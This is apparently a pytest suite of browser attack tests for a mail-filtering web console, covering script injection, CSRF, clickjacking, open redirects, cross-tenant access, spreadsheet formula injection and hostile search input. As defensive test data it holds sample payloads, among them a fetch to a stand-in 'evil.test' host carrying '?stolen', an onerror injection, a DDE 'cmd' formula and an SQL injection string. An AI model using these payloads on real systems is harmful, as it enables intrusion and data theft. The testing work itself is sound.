"""Attacks on a console (../shared/suites/websec), in a real browser: what hostile mail, other sites and other people's links can do there. Each names its case."""

import asyncio
import contextlib
import html
import http.server
import threading
from urllib.parse import quote

import pytest
from tests.browser.scene import ADMINISTRATOR, OPERATOR, SCRIPT, STRANGER, USER

pytestmark = pytest.mark.asyncio(loop_scope="session")


@contextlib.contextmanager
def other_site(page):
    """Give the address of another origin that shows a page."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("content-type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, *arguments):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/"
        finally:
            server.shutdown()
            thread.join()


async def test_hostile_names_are_text_everywhere(open_as, scene):
    """web01, web03: a script in the subject, a picture in the name, markup and turned letters in file names, an SVG that runs."""
    watched = await open_as(OPERATOR)
    page = watched.page
    number = scene.told["hostile"]
    for path in ("/messages", f"/messages/{number}", "/quarantine", "/overview", "/audit", f"/messages?text={quote(SCRIPT)}"):
        await watched.open(path)
        assert "owned" not in await page.title()
        assert (
            await page.evaluate("() => document.querySelectorAll('main script:not([src]), main img, main iframe, main object, main embed').length")
            == 0
        )
        shown = await page.locator("main").inner_text()
        assert "\u202e" not in shown, "a name that reads from the other side"
    assert SCRIPT in await page.locator("main").inner_text()


async def test_the_policy_of_pages_stops_what_would_get_in(open_as):
    """web01: even where a page had a hole, nothing of it runs and nothing is sent away."""
    watched = await open_as(OPERATOR)
    await watched.open("/overview")
    ran = await watched.page.evaluate(
        """async () => {
          let blocked = 0;
          document.addEventListener('securitypolicyviolation', () => { blocked += 1; });
          const one = document.createElement('div');
          try { one.innerHTML = '<img src=x onerror="window.ran = 1">'; } catch { blocked += 1; }
          const two = document.createElement('script');
          try { two.textContent = 'window.ran = 2'; document.body.append(two); } catch { blocked += 1; }
          try { await fetch('https://evil.test/?stolen'); } catch { blocked += 1; }
          await new Promise((done) => setTimeout(done, 200));
          return [window.ran || 0, blocked];
        }"""
    )
    assert ran[0] == 0
    assert ran[1] >= 3
    assert any("blocked: " in line for line in watched.wrong), "a walk on which this happened would fail"
    watched.wrong.clear()  # what the browser said of it


async def test_no_content_of_mail_is_served_as_a_page(open_as, scene):
    """web03, web04: the octets of a mail come as a file that nothing opens, by a form with the token and a reason alone."""
    browser = scene.session(ADMINISTRATOR)
    path = f"/messages/{scene.told['hostile']}/raw"
    page = browser.get(path)
    assert "may be harmful" in page.body
    assert SCRIPT not in page.body
    answer = browser.submit(page, path, reason="a test")
    if answer.code == 303 or 'name="secret"' in answer.body:
        pytest.fail("a fresh login is a fresh proof")
    assert SCRIPT in answer.body, "as it came"
    assert answer.headers["content-disposition"].startswith("attachment;")
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["content-type"] == "application/octet-stream"
    assert browser.get(path).headers["content-type"].startswith("text/html"), "opening its address only warns"
    del open_as


async def test_another_site_cannot_send_our_forms(open_as, scene):
    """web12: whoever is logged in and opens a hostile page releases nothing."""
    body = scene.session(ADMINISTRATOR).get("/quarantine").body
    held = body.partition('name="held" value="')[2].partition('"')[0]
    form = f'<form method="post" action="{scene.origin}/quarantine/release"><input name="held" value="{held}"><input name="csrf" value=""></form>'
    watched = await open_as(ADMINISTRATOR)
    watched.refusals = True
    with other_site(f"<title>evil</title>{form}") as evil:
        await watched.page.goto(evil)
        async with watched.page.expect_navigation():
            await watched.page.evaluate("() => document.forms[0].submit()")
        assert watched.page.url.startswith(scene.origin)
        assert "delivered" not in await watched.page.locator("body").inner_text()
    assert held in scene.session(ADMINISTRATOR).get("/quarantine").body
    watched.wrong = [line for line in watched.wrong if evil not in line]


async def test_no_site_frames_the_console_or_reads_it(open_as, scene):
    """web28: clickjacking; and what another origin asks for with the cookie is not handed to it."""
    watched = await open_as(ADMINISTRATOR)
    with other_site(f'<title>evil</title><iframe src="{scene.origin}/quarantine" width="900" height="700"></iframe>') as evil:
        await watched.page.goto(evil)
        await watched.page.wait_for_timeout(300)
        framed = watched.page.frames[-1]
        shown = await framed.locator("body").inner_text() if framed != watched.page.main_frame else ""
        assert "Quarantine" not in shown
        read = await watched.page.evaluate(
            f"() => fetch('{scene.origin}/messages', {{credentials: 'include'}}).then((a) => a.text()).catch(() => 'nothing')"
        )
        assert read == "nothing"
    watched.wrong.clear()  # the browser tells each of these


@pytest.mark.parametrize("target", ["//evil.test/", "https://evil.test/", "/\\evil.test", "/%2f/evil.test", "javascript:alert(1)", "/\t/evil.test"])
async def test_a_login_leads_nowhere_else(open_as, scene, target):
    """web27."""
    watched = await open_as(USER)
    watched.refusals = True  # a path of ours that is none
    await watched.open(f"/login?next={quote(target)}")
    assert watched.page.url.startswith(f"{scene.origin}/")


async def test_others_things_are_not_there(scene):
    """web09: numbers of another organisation's or another person's mail, named in addresses and in forms."""
    theirs = scene.session(STRANGER)
    body = scene.session(ADMINISTRATOR).get("/quarantine").body
    held = body.partition('name="held" value="')[2].partition('"')[0]
    assert theirs.get(f"/messages/{scene.told['phishing']}").code == 404
    assert "suspended" not in theirs.get("/messages?tenant=default").body  # the address asks in vain
    csrf = theirs.get("/account").form("/logout")["csrf"]
    for path in ("/quarantine/release", "/quarantine/delete", f"/messages/{scene.told['hostile']}/raw"):
        answer = theirs.post(path, {"csrf": csrf, "held": held, "reason": "x"})
        assert html.escape("Your account has been suspended") not in answer.body
    assert theirs.post("/accounts/role", {"csrf": csrf, "account": "id-mika", "role": "end-user"}).code in {403, 404}
    assert theirs.get("/start?tenant=default").code == 200
    assert held in scene.session(ADMINISTRATOR).get("/quarantine").body
    user = scene.session(USER)
    for path in ("/audit", "/accounts", "/policy", "/queue", "/overview", "/"):
        assert user.get(path).code in {303, 403}, path


async def test_a_spreadsheet_runs_nothing(scene):
    """A subject that begins as a formula is text in the export."""
    scene.send("you@example.sekisho.test", b'From: <a@shop.sekisho.test>\r\nSubject: =cmd|"/c calc"!A1\r\n\r\nHello\r\n', "a@shop.sekisho.test")
    await asyncio.to_thread(scene.wait_for, OPERATOR, "/messages?text=calc", ["/c calc"])
    answer = scene.session(OPERATOR).get("/messages.csv?text=calc")
    assert answer.headers["content-disposition"].startswith("attachment")
    assert ",=cmd" not in answer.body
    assert ',"=cmd' not in answer.body
    assert "cmd|" in answer.body


async def test_private_pages_are_not_kept_and_logging_out_empties_the_way_back(open_as, scene):
    """Caching of private pages: after logging out the Back button shows nothing of them; the cookie is for servers alone (web15)."""
    watched = await open_as("")
    page = watched.page
    for path in ("/login", "/static/style.css"):
        assert (await page.request.get(path)).headers["cache-control"] == "no-store"
    await watched.open("/login?lang=en")
    await page.get_by_label("Login", exact=True).fill(STRANGER)
    await page.get_by_label("Password").fill("four unrelated otters sing")
    await page.get_by_role("button", name="Log in").click()
    await watched.open("/people")
    assert "Otto Lind" in await page.locator("main").inner_text()
    cookies = await page.context.cookies()
    assert all(one["httpOnly"] and one["sameSite"] == "Strict" for one in cookies if one["name"] not in {"sekisho-language", "sekisho-zone"}), cookies
    assert "sekisho" not in await page.evaluate("() => document.cookie.replace('sekisho-language', '')")
    await page.get_by_role("button", name="Log out").click()
    await page.wait_for_url("**/login*")
    await page.evaluate("() => history.back()")
    await page.wait_for_timeout(500)
    assert "Otto Lind" not in await page.locator("body").inner_text()


async def test_a_search_that_would_hurt_is_quick_and_harmless(open_as):
    """web19."""
    watched = await open_as(OPERATOR)
    for text in ("' OR 1=1 --", "%", "(a+)+$" * 20, '"' * 50, "\u0000x", "NEAR(a b)"):
        assert await watched.open(f"/messages?text={quote(text)}") == 200
